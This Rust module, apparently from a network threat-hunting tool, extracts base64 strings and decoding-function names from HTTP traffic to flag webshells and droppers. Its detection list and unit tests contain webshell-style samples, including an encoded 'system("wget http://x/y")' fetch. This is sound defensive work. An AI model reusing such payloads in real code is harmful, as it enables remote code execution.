//! Derived hunting fields of a transaction: base64 text found in its URI, headers and bodies
//! (`base64.decoded`) and the base64 functions they use (`base64.functions`), also inside the
//! decoded text. Hunters use them to find webshells, droppers and worms that hide their
//! payloads (the Raiz0WorM hunt: HTTP 200 + base64 functions).
//!
//! Bounded: at most [`MAX_SCAN`] bytes per transaction are scanned, [`MAX_DECODED`] strings of
//! at most [`MAX_DECODED_LEN`] characters are kept.

use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine;
use events::http::Base64Eve;

use crate::tx::HttpTx;

/// Bytes scanned per transaction (URI, headers and bodies together).
pub const MAX_SCAN: usize = 256 * 1024;
/// Decoded strings kept per transaction.
pub const MAX_DECODED: usize = 16;
/// Characters kept per decoded string.
pub const MAX_DECODED_LEN: usize = 1024;
/// Shortest base64 run considered (12 characters encode 9 bytes).
pub const MIN_RUN: usize = 12;

/// Function names, as reported. Matched case-insensitively; the short JavaScript ones only
/// when a `(` follows.
const FUNCTIONS: &[&str] = &[
    "base64_decode",
    "base64_encode",
    "convert.base64-decode",
    "atob",
    "btoa",
    "FromBase64String",
    "ToBase64String",
    "b64decode",
    "b64encode",
    "urlsafe_b64decode",
    "decodebase64",
    "Base64.decode",
    "Base64.getDecoder",
    "base64 -d",
    "base64 --decode",
    "certutil -decode",
    "unbase64",
];

fn automaton() -> Option<&'static AhoCorasick> {
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    AC.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostLongest)
            .build(FUNCTIONS)
            .ok()
    })
    .as_ref()
}

fn engine() -> GeneralPurpose {
    GeneralPurpose::new(
        &base64::alphabet::STANDARD,
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::Indifferent)
            .with_decode_allow_trailing_bits(true),
    )
}

fn url_engine() -> GeneralPurpose {
    GeneralPurpose::new(
        &base64::alphabet::URL_SAFE,
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::Indifferent)
            .with_decode_allow_trailing_bits(true),
    )
}

fn functions_in(data: &[u8], out: &mut Vec<String>) {
    let Some(ac) = automaton() else { return };
    for m in ac.find_iter(data) {
        let name = FUNCTIONS[m.pattern().as_usize()];
        if m.start() > 0 && data[m.start() - 1].is_ascii_alphanumeric() {
            continue;
        }
        if name.len() <= 4 {
            let rest = &data[m.end()..];
            let next = rest.iter().find(|c| !c.is_ascii_whitespace());
            if next != Some(&b'(') {
                continue;
            }
        }
        if !out.iter().any(|f| f == name) {
            out.push(name.to_owned());
        }
    }
}

fn is_b64(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_')
}

/// Text decoded from base64 runs of `data`.
fn decoded_in(data: &[u8], out: &mut Vec<String>) {
    let mut i = 0;
    while i < data.len() && out.len() < MAX_DECODED {
        if !is_b64(data[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < data.len() && is_b64(data[i]) {
            i += 1;
        }
        let run = &data[start..i];
        while i < data.len() && data[i] == b'=' {
            i += 1;
        }
        if run.len() < MIN_RUN || run.iter().all(u8::is_ascii_alphabetic) && run.len() < 20 {
            continue;
        }
        // A run with both `+`/`/` and `-`/`_` is not base64 of either alphabet.
        let std_chars = run.iter().any(|c| matches!(c, b'+' | b'/'));
        let url_chars = run.iter().any(|c| matches!(c, b'-' | b'_'));
        let dec = match (std_chars, url_chars) {
            (true, true) => continue,
            (_, true) => url_engine().decode(run),
            _ => engine().decode(run),
        };
        let Ok(bytes) = dec else { continue };
        if bytes.len() < 6 {
            continue;
        }
        let printable = bytes
            .iter()
            .filter(|b| b.is_ascii_graphic() || matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
            .count();
        if printable * 100 < bytes.len() * 95 {
            continue;
        }
        let text: String = String::from_utf8_lossy(&bytes)
            .chars()
            .take(MAX_DECODED_LEN)
            .collect();
        if !out.contains(&text) {
            out.push(text);
        }
    }
}

/// Percent-decodes `b` (invalid escapes stay as they are).
fn percent_decode(b: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    out
}

/// The derived base64 fields of `tx`, if anything was found.
pub(crate) fn scan(tx: &HttpTx) -> Option<Base64Eve> {
    let mut parts: Vec<std::borrow::Cow<'_, [u8]>> = Vec::new();
    if let Some(u) = tx.uri() {
        // Both as sent (a `+` of base64 survives) and percent-decoded.
        parts.push(u.into());
        parts.push(percent_decode(u).into());
    }
    for h in tx
        .request_headers()
        .iter()
        .chain(tx.response_headers().iter())
    {
        parts.push(h.value.as_slice().into());
    }
    parts.push(tx.request_body().data.as_slice().into());
    parts.push(tx.response_body().data.as_slice().into());
    let mut functions = Vec::new();
    let mut decoded = Vec::new();
    let mut budget = MAX_SCAN;
    for p in &parts {
        let p = &p[..p.len().min(budget)];
        budget -= p.len();
        functions_in(p, &mut functions);
        decoded_in(p, &mut decoded);
        if budget == 0 {
            break;
        }
    }
    for d in &decoded {
        functions_in(d.as_bytes(), &mut functions);
    }
    if functions.is_empty() && decoded.is_empty() {
        return None;
    }
    Some(Base64Eve { decoded, functions })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_functions_with_word_boundaries() {
        let mut f = Vec::new();
        functions_in(
            b"x=eval(BASE64_DECODE($_POST[a])); atob ('x'); matobo; notatob(1)",
            &mut f,
        );
        assert_eq!(f, vec!["base64_decode", "atob"]);
        let mut f = Vec::new();
        functions_in(b"[Convert]::FromBase64String($s) | powershell", &mut f);
        assert_eq!(f, vec!["FromBase64String"]);
    }

    #[test]
    fn decodes_printable_runs_only() {
        let mut d = Vec::new();
        // "Raiz0WorM was here" and random bytes.
        decoded_in(
            b"/p?x=UmFpejBXb3JNIHdhcyBoZXJl&sid=q8Zx0fP3kLm2Vb9Tw4Yc",
            &mut d,
        );
        assert_eq!(d, vec!["Raiz0WorM was here"]);
        let mut d = Vec::new();
        decoded_in(b"c3lzdGVtKCJ3Z2V0IGh0dHA6Ly94L3kiKTs=", &mut d);
        assert_eq!(d, vec!["system(\"wget http://x/y\");"]);
        let mut d = Vec::new();
        decoded_in(b"abcdefghijklmnop Content-Type application", &mut d);
        assert!(d.is_empty(), "{d:?}");
    }

    #[test]
    fn percent_decoding_is_lenient() {
        assert_eq!(percent_decode(b"a%3Db%2"), b"a=b%2");
        assert_eq!(percent_decode(b"%zz+%41"), b"%zz A");
    }
}
